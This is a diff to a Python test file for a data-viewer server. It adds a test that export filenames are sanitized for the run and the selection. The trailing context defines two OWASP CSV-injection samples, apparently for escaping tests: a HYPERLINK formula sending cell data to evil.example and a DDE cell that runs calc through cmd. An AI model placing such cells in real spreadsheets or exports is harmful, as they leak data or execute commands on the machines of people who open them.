@@ -446,6 +446,40 @@ def test_every_route_answers_odd_input_with_4xx_never_5xx(small_served):
     assert not failures, "\n".join(map(str, failures))
 
 
+def test_exports_are_named_for_the_run_and_the_selection(tmp_path):
+    """A download's name says which run and which selection it holds, in characters
+    any file system and header take."""
+    from .run_folders import small_run
+
+    run = tmp_path / "sérïe \"7\"" / "run"
+    run.parent.mkdir()
+    small_run(run)
+    server = Served(run, None)
+    names = {}
+    try:
+        for body, kind in (({"class": "B"}, "csv"), ({"rows": [3, 1, 4, 1]}, "fits"),
+                           ({"query": "probability > 0.9 and map_x < 0"}, "vot")):
+            answer = raw_request(server, "POST", "/api/select", json.dumps(body).encode())[1]
+            key = json.loads(answer)["selection"]
+            connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=30)
+            connection.request("GET", f"/api/selection/{key}/export.{kind}")
+            response = connection.getresponse()
+            names[kind] = response.getheader("Content-Disposition")
+            response.read()
+            connection.close()
+        connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=30)
+        connection.request("GET", "/api/tags.csv")
+        names["tags"] = connection.getresponse().getheader("Content-Disposition")
+        connection.close()
+    finally:
+        server.stop()
+    assert names == {
+        "csv": 'attachment; filename="s_r_e_7-run-class-B.csv"',
+        "fits": 'attachment; filename="s_r_e_7-run-lasso-3.fits"',
+        "vot": 'attachment; filename="s_r_e_7-run-query-probability_0.9_and_map_x_0.xml"',
+        "tags": 'attachment; filename="s_r_e_7-run-tags.csv"'}
+
+
 #: Cells a spreadsheet would run (OWASP's CSV injection examples) and an id that is a number.
 FORMULA_NOTE = '=HYPERLINK("http://evil.example/?"&A1, "click")'
 FORMULA_ID = "@SUM(1+1)*cmd|' /C calc'!A0"
